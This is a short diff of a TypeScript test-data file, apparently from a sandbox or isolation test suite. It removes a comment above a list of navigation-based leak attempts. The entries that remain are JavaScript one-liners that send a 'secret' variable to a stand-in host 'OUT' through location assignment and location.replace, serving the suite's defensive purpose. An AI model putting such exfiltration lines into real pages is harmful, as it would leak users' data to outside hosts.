@@ -1,6 +1,5 @@
 import type { Attempt } from './attempt.ts'
 
-/** Attempts to navigate the page, another page or the whole tab. */
 export const LEAVES: readonly Attempt[] = [
   { name: 'location', alone: 'always', js: `location = 'http://OUT/?' + secret` },
   { name: 'location-replace', alone: 'always', js: `location.replace('http://OUT/?' + secret)` },
